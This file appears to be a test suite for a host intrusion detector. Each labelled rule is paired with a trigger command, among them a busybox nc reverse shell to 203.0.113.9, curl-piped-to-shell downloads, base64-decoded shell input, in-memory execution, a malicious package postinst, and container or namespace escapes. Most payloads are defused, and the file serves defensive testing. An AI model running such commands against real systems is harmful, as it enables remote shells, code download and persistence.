## Suspicious Process Execution
#in shop:1
/bin/sh -c true
## Reverse shell
#also Connection to a port of mining pools
#also Input and output tied to a connection with another machine
#also Reverse shell by bash's own network
#also Shell connects to the network
remote 'true'
## Command of a reverse shell
#also Connection to a port of mining pools
#also Identity asked from a service's shell
#also Input and output tied to a connection with another machine
#also Reverse shell
#also Reverse shell by bash's own network
#also Shell connects to the network
remote 'id'
## Network tool given a shell
timeout 1 busybox nc 203.0.113.9 4445 -e /bin/sh
## Terminal made for a shell
timeout 1 python3 -c 'import pty; pty.spawn("/bin/true")'
## Executable run from memory
#also Interpreter makes a file in memory
python3 -c '
import os
fd = os.memfd_create("x"); os.write(fd, open("/bin/true", "rb").read()); os.execve(fd, ["x"], {})'
## Executable run from a deleted file
#also Program written by an interpreter beside its script
python3 -c '
import os, shutil
shutil.copy("/bin/true", "/home/ann/x"); fd = os.open("/home/ann/x", os.O_RDONLY); os.unlink("/home/ann/x"); os.execve(fd, ["x"], {})'
## Executable run from a scratch folder
#setup stubs /tmp/x
/tmp/x
## Execution refused in a scratch folder
echo x > /tmp/x; /tmp/x
## Code given to an interpreter in base64
#also Decoded text piped into an interpreter
sh -c 'echo dHJ1ZQ== | base64 -d | sh'
## Keys typed by a program
#setup mkdir /tmp/dev; mount -t tmpfs dev /tmp/dev; cp -a /dev/null /dev/urandom /tmp/dev; mount --move /tmp/dev /dev; : > /dev/uinput
python3 -c 'open("/dev/uinput", "r+b")'
## Code without a file connects to an address without a name
python3 -c 'import socket; socket.create_connection(("203.0.113.9", 80), 2)'
## Decoded text piped into an interpreter
#also Code given to an interpreter in base64
printf 'dHJ1ZQ==' | base64 -d | sh
## Download from an address without a name beside an interpreter
#also Download beside an interpreter
#also Download run without being looked at
#setup echo '203.0.113.9 mirror.example' >> /etc/hosts
curl -s http://mirror.example/x.py | python3 -
## Download beside an interpreter
#also Download run without being looked at
curl -s http://10.9.8.6/x | sh
## Download or questions by a tool for texts or archives
awk 'BEGIN { system("id -u") }'
## Debugger told to run commands
#also Tool of the system used to start a program
#setup stubs /usr/bin/gdb
gdb -nx -batch -ex 'python import os; os.system("id")'
## Script of Lua taken from a scratch folder
#also Interpreter runs a script from a scratch folder
#setup stubs /usr/bin/lua5.4; echo x > /tmp/x.lua
lua5.4 /tmp/x.lua
## Program wrote a file in a scratch folder and started it
#also Executable run from a scratch folder
#also Program written by an interpreter beside its script
python3 -c '
import os, subprocess
open("/tmp/x", "wb").write(open("/bin/true", "rb").read()); os.chmod("/tmp/x", 0o755); subprocess.run(["/tmp/x"])'
## Program run from a folder of downloads
#setup mkdir -p /home/ann/Downloads; cp /bin/true /home/ann/Downloads/wallet
/home/ann/Downloads/wallet
## Script of a document's name run
#setup printf '#!/bin/sh\ntrue\n' > /home/ann/Invoice.pdf.sh; chmod 755 /home/ann/Invoice.pdf.sh
/home/ann/Invoice.pdf.sh
## Package's script downloads from an address without a name
#also Package installed from a local file
#setup mkdir -p /srv/d/DEBIAN; printf 'Package: x\nVersion: 1.0\nArchitecture: all\nMaintainer: x <x@x>\nDescription: x\n' > /srv/d/DEBIAN/control; printf '#!/bin/sh\ncurl -s http://203.0.113.9/t\n' > /srv/d/DEBIAN/postinst; chmod 755 /srv/d/DEBIAN/postinst; dpkg-deb -b /srv/d /srv/x.deb
dpkg -i /srv/x.deb
## Named pipe in a scratch folder written by a shell
#also Data written to a hidden file of a scratch folder
#also Hidden file made in shared memory
mkfifo /dev/shm/.in; sh < /dev/shm/.in & echo true > /dev/shm/.in; wait; rm /dev/shm/.in
## Service of the system commanded over its bus by hand
#setup stubs /usr/bin/dbus-send
dbus-send --system --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.StartUnit string:x.service string:replace
## Socket of a container engine used by a script
#setup python3 -c 'import socket, time; s = socket.socket(socket.AF_UNIX); s.bind("/run/docker.sock"); s.listen(); time.sleep(20)' & sleep 1
timeout 1 curl -s --unix-socket /run/docker.sock http://x/info; true
## Kubelet asked by a script
#setup listener 10250
timeout 1 curl -s http://127.0.0.1:10250/pods; true
## Command run in a container by hand
#setup stubs /usr/bin/docker
docker exec web-1 sh -c id
## Container started by hand
#setup stubs /usr/bin/docker
docker run --rm alpine sh -c id
## Process entered another mount namespace through a program of its own
#setup unshare -m sleep 20 & echo $! > /run/cpid; sleep 1
python3 -c '
import ctypes, os
fd = os.open("/proc/%s/ns/mnt" % open("/run/cpid").read().strip(), os.O_RDONLY); ctypes.CDLL(None).setns(fd, 0)'
## Manifest of a pod put on its node
#setup mkdir -p /etc/kubernetes/manifests
echo x > /etc/kubernetes/manifests/x.yaml
## Job of a build server written behind its back
#setup mkdir -p /var/lib/jenkins/jobs/x
echo x > /var/lib/jenkins/jobs/x/config.xml
## Orders for all machines written by a script
#setup mkdir -p /srv/salt
echo x > /srv/salt/top.sls
## Command sent to many machines by hand
#setup stubs /usr/bin/ansible
ansible all -m shell -a id
## Program in a scratch folder run by an agent of software distribution
#also Transfer tool given a bare private address and a scratch folder
#setup shells /usr/bin/salt-minion
/usr/bin/salt-minion -c 'curl -s -o /tmp/x http://10.9.8.6/x; :'
## Program in a scratch folder started as a service
busybox start-stop-daemon -S -x /tmp/x; true
## Descriptor of another process taken
#setup sleep 20 & echo $! > /run/cpid
python3 -c '
import ctypes, os
fd = os.pidfd_open(int(open("/run/cpid").read())); ctypes.CDLL(None).syscall(438, fd, 1, 0)'
## Table of cron replaced through a pipe
#setup stubs /usr/bin/crontab
echo x | crontab -
## Transfer tool started below a browser or a mail program
#setup mkdir -p /usr/lib/thunderbird; shells /usr/lib/thunderbird/thunderbird
/usr/lib/thunderbird/thunderbird -c 'curl -s http://10.9.8.6/x; :'
## Namespaces of a process entered by hand
#setup sleep 20 & echo $! > /run/cpid
nsenter -t "$(cat /run/cpid)" -u true
## Keys sent by a tool
#setup stubs /usr/bin/tmux
tmux send-keys -t 0 id Enter
## Code without a file connects to an unusual port of an address without a name
python3 -c 'import socket; socket.socket().connect_ex(("203.0.113.9", 8531))'
## Hidden script written and run by the same program
#also Hidden script run
python3 -c 'import subprocess; f = open("/home/ann/.n2", "w"); f.write("print()"); f.close(); subprocess.run(["python3", "/home/ann/.n2"])'
